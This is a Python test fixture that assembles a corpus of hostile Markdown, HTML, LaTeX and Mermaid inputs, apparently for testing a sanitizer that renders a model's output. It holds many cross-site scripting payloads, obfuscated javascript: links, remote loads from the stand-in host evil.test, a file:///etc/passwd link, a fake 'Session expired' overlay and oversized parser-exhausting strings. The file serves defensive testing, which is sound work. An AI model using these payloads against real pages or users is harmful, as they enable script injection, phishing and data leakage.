"""What a hostile model may write: markup that would run, load, or pretend, if it were let."""

from itertools import product

EVIL = "http://evil.test"

HOSTILE = [
    "<script>window.ran = 1</script>",
    "<scr<script>ipt>window.ran = 1</scr</script>ipt>",
    f"<script src={EVIL}/a.js></script>",
    "<img src=x onerror='window.ran = 1'>",
    f"<img src={EVIL}/html.png>",
    f"![a]({EVIL}/image.png)",
    f"![a][1]\n\n[1]: {EVIL}/reference.png",
    f"[![a]({EVIL}/linked.png)](javascript:window.ran=1)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](javascript:window.ran=1)",
    "[click](JaVaScRiPt:window.ran=1)",
    "[click](java&#x09;script:window.ran=1)",
    "[click](&#106;avascript:window.ran=1)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>window.ran=1</script>)",
    "<javascript:window.ran=1>",
    "[click](/lab/api/workspaces)",
    "[click](//evil.test/no-scheme)",
    "[click](file:///etc/passwd)",
    '[a](https://example.org/"onmouseover=window.ran=1)',
    "[a](https://example.org \"title' onmouseover='window.ran=1\")",
    "<a href='https://example.org' onclick='window.ran=1'>x</a>",
    "<svg onload='window.ran = 1'><script>window.ran=1</script></svg>",
    f"<svg><image href='{EVIL}/svg.png'/></svg>",
    f"<svg><style>@import '{EVIL}/svg.css';</style></svg>",
    f"<style>@import '{EVIL}/style.css'; * {{ display: none }}</style>",
    f"<link rel=stylesheet href={EVIL}/link.css>",
    f"<div style='background:url({EVIL}/background.png)'>x</div>",
    "<div style='position:fixed;inset:0;background:white'>Session expired</div>",
    f"<iframe src='{EVIL}/frame.html'></iframe><object data='{EVIL}/o'></object>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<embed src={EVIL}/e><video poster={EVIL}/poster></video><audio src={EVIL}/a autoplay>",
    f"<form action={EVIL}/form><input autofocus onfocus='window.ran=1'><button>Go</button></form>",
    f"<base href={EVIL}/base><meta http-equiv=refresh content='0;url={EVIL}/meta'>",
    "<details open ontoggle='window.ran=1'><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><img src onerror='window.ran=1'></style></mglyph></table>"
    "</mtext></math>",
    "<math href='javascript:window.ran=1'>click</math>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<!--><img src=x onerror=window.ran=1>-->",
    "<![CDATA[<img src=x onerror=window.ran=1>]]>",
    "<template><img src=x onerror=window.ran=1></template>",
    "$\\text{<img src=x onerror=window.ran=1>}$",
    "$$\\text{&lt;img src=x onerror=window.ran=1&gt;}$$",
    "$\\href{javascript:window.ran=1}{x}$",
    f"$\\includegraphics{{{EVIL}/formula.png}}$",
    "$\\class{lm-Menu}{x} \\style{position:fixed}{x} \\cssId{a}{x}$",
    "\\(<img src=x onerror=window.ran=1>\\)",
    "\\[\\unicode{<script>window.ran=1</script>}\\]",
    "```html\n<script>window.ran = 1</script>\n```",
    '```"><img src=x onerror=window.ran=1>\ncode\n```',
    "```<script>window.ran=1</script>\ncode",
    "````\n```\n<img src=x onerror=window.ran=1>",
    "~~~js onclick=window.ran=1\ncode\n~~~",
    "`<img src=x onerror=window.ran=1>`",
    "``<script>window.ran=1</script>",
    f"```mermaid\nflowchart TD\n  A@{{ img: '{EVIL}/diagram.png', w: 60, h: 60 }}\n```",
    "```mermaid\ngraph TD\n  click A call alert()\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.ran=1> | <script>window.ran=1</script> |",
    "- <script>window.ran=1</script>\n  > <img src=x onerror=window.ran=1>",
    "# <img src=x onerror=window.ran=1>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "\u202e<img src=x onerror=window.ran=1>\u0000\u0008\ud800",
    "<p>unclosed <b>bold <i>all <table><tr><td>of",
    "</div></div></section></body></html><h1>outside</h1>",
    "</code></pre></div><img src=x onerror=window.ran=1>",
    f"[x]: {EVIL}/definition\n[x]\n![x]",
    f"<{EVIL}/autolink><img/src=x/onerror=window.ran=1>",
]

ENDLESS = [
    "> " * 5_000 + "deep",
    "- " * 3_000 + "deep",
    "[" * 20_000,
    "![" * 10_000 + "](",
    "*a **a " * 5_000,
    "`" * 20_000,
    "```\n" * 5_000,
    "$" * 20_001,
    "$" + "{" * 1_500 + "$",
    "$" + "\\frac{" * 300 + "x$",
    "$" + "x^" * 700 + "$",
    "<" * 20_000,
    "<a " * 10_000,
    "| a " * 5_000 + "|\n" + "|---" * 5_000 + "|",
    "\\(" * 10_000,
    "&" * 20_000,
    "a\n" * 20_000,
    "x" * 500_000,
    "```python\n" + "f(" * 9_000 + "\n```",
]

RUN = "window.ran=1"
AT_ONCE = (
    "style=display:block;content-visibility:auto "
    f"oncontentvisibilityautostatechange={RUN} onmouseover={RUN} "
)
"""What makes an element run something without a click, once it is among its attributes."""
PAYLOADS = [
    f'" {AT_ONCE} x="',
    f"' {AT_ONCE} x='",
    f'"><img src={EVIL}/attribute onerror={RUN}><a x="',
    f'" autofocus tabindex=0 onfocus={RUN} x="',
]
FORMULAS = [
    *(("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"), ("\\\\(", "\\\\)")),
    *(("\\\\[", "\\\\]"), ("\\begin{a}", "\\end{a}"), ("&#36;", "&dollar;"), ("@\\@0@@", "$x$")),
]
"""What a formula may be taken to begin and end with; the last one names one that was taken out."""
ATTRIBUTES = [
    "[a]({})",
    "[a](<{}>)",
    "[a](https://a.test/{})",
    '[a](https://a.test "{}")',
    "[a](https://a.test '{}')",
    '[a][b]\n\n[b]: https://a.test "{}"',
    "[a][b]\n\n[b]: https://a.test/{}",
    "<https://a.test/{}>",
    "https://a.test/{}",
    "www.a.test/{}",
    "<mailto:a@a.test?{}>",
    f"![{{}}]({EVIL}/alternative)",
    f"![a]({EVIL}/{{}})",
    "```{}\ncode\n```",
    "~~~ {}\ncode\n~~~",
    "- ```\n  {}\n  ```",
    "# {}",
    "<!-- {} -->",
    "`{}` <a title='`{}`'>",
    "[^{}]: x\n\n[^{}]",
]
"""Where a reader of Markdown makes an attribute, and some of what it may confuse with code."""
AROUND = [
    "{}",
    "- a\n- {}",
    "> {}",
    "**a *{}* b**",
    "1. a\n\n   {}",
    "| a | b |\n|---|---|\n| {} | c |",
]
APART = [
    '$ [a](https://a.test/$"{p}) $',
    "$x [a](https://a.test '{p}$') y",
    "`$` [a](https://a.test/`$`{p}$)",
    "```\n$\n```\n\n[a](https://a.test '$ {p} $')",
    "- ```\n  $\n  ```\n\n$<img src=x {p}>$",
    "> ```\n> $$\n> ```\n\n`$$ <img src=x {p}>`",
    "`$$` `$$ <img src=x {p}>`",
    "`\\begin{{a}}` [a](https://a.test '\\end{{a}}{p}')",
    "$a$$b$ $$c$ <img src=x {p}> $",
    "${{$ [a](https://a.test '}}${p}')",
    "$|x|$ <img src=x {p}>\n\n| $a | b$ |\n|---|---|\n| $|<img src=x {p}>|$ | `|<img {p}>|` |",
    "@@0@@ $x$ [a](https://a.test '@\\@0@@') $ {p} $",
    "@@99@@ `@@1@@` $ {p} $",
    "$\\text{{<img src=x {p}>}}$ $\\style{{{p}}}{{x}}$ $\\class{{{p}}}{{x}}$",
    "~~~\n$\n~~~ \n[a](https://a.test '$ {p} $')",
    "a\\\n$ [a](https://a.test 'x\n$ {p} $')",
    "$\\$ [a](https://a.test '$ {p} $')",
    "**$**[a](https://a.test '$ {p} $')**$**",
    "![$]({e}/one)[a](https://a.test '{p}$')![$]({e}/two)",
    "$![a]({e}/formula)$ and \\({e}/x\\) and $$[a](javascript:{r})$$",
]
"""Formulas that begin in one place and end in another."""
SCHEMES = [
    *("javascript:{r}", "JaVaScRiPt:{r}", "java&#x09;script:{r}", "java&Tab;script:{r}"),
    *(
        "java&NewLine;script:{r}",
        "&#106;avascript:{r}",
        "javascript&colon;{r}",
        "&#1;javascript:{r}",
    ),
    *("%6aavascript:{r}", "javascript%3a{r}", "\\javascript:{r}", "java\\script:{r}"),
    *("java\u200bscript:{r}", "java\u00adscript:{r}", "\ufeffjavascript:{r}", "ｊavascript:{r}"),
    *("vbscript:{r}", "data:text/html,<script>{r}</script>", "data:image/svg+xml,<svg onload={r}>"),
    *("blob:{r}", "file:///etc/passwd", "ftp://evil.test/x", "//evil.test/x", "\\\\evil.test\\x"),
    *("/lab/api", "../x", "#x", "?x", "", "view-source:{e}", "about:blank", "tel:1", "https:{r}"),
    *("http:/evil.test/x", "https:\\\\evil.test/x", "intent://x", "command:x", "vscode://x"),
]
LINKS = ["[a]({})", "![a]({})", "[a](<{}>)", "[a][b]\n\n[b]: {}", "<{}>"]
EMBEDDED = [
    f"[![$]({EVIL}/inner)](https://a.test '$ {PAYLOADS[0]} $')",
    f"![a](<{EVIL}/angle image>)",
    f'![a]({EVIL}/title "title")',
    f"![a\n]({EVIL}/newline)",
    f"!\\[a]({EVIL}/escaped) \\![a]({EVIL}/mark)",
    f"a!&#91;b]({EVIL}/entity) &#33;[b]({EVIL}/mark-entity)",
    f"&lt;img src={EVIL}/lt&gt; &#60;img src={EVIL}/number&#62;",
    f"<picture><source srcset={EVIL}/source><img srcset={EVIL}/srcset></picture>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\def\\x{{\\href{{javascript:{RUN}}}{{x}}}}\\x$",
    f"\\\\(\\href{{javascript:{RUN}}}{{x}}\\\\) &#36;\\href{{javascript:{RUN}}}{{x}}&#36;",
    f"$\\require{{html}}\\data{{x={RUN}}}{{y}}$ $\\unicode{{x41}}$ $\\cssId{{main}}{{x}}$",
    f"|a|\n|-|\n|`|`<img src={EVIL}/cell onerror={RUN}>|",
    f"a\n    <img src={EVIL}/lazy onerror={RUN}>",
    f"&#32;&#32;&#32;&#32;<img src={EVIL}/indented onerror={RUN}>",
    f"x&#10;&#10;# <img src={EVIL}/line onerror={RUN}>",
    "a ~~~~b~~~~ c **~~~~** d",
    '```mermaid\ngraph TD\nclick A href "javascript:window.ran=1"\n```',
    f"``` mermaid x\nA@{{ img: '{EVIL}/mermaid' }}\n```",
    f"- ```Mermaid\n  A@{{ img: '{EVIL}/mermaid-list' }}\n  ```",
    f"~~~mermaid-x\nA@{{ img: '{EVIL}/mermaid-x' }}\n~~~",
]


def corpus() -> list[str]:
    """Every kind in every place, the rest of what varies in turn; always the same."""
    made = list(EMBEDDED)
    for number, (at, (opens, closes)) in enumerate(product(ATTRIBUTES, FORMULAS)):
        payload = PAYLOADS[number % len(PAYLOADS)]
        around = AROUND[(number // 3) % len(AROUND)] if "\n" not in at else "{}"
        made.append(around.replace("{}", at.replace("{}", f"{opens}{payload}{closes}")))
    made += [at.format(p=one, e=EVIL, r=RUN) for at, one in product(APART, PAYLOADS)]
    for number, scheme in enumerate(SCHEMES):
        address = scheme.format(r=RUN, e=EVIL)
        made += [one.replace("{}", address) for one in (LINKS[number % 5], LINKS[(number + 2) % 5])]
    return made
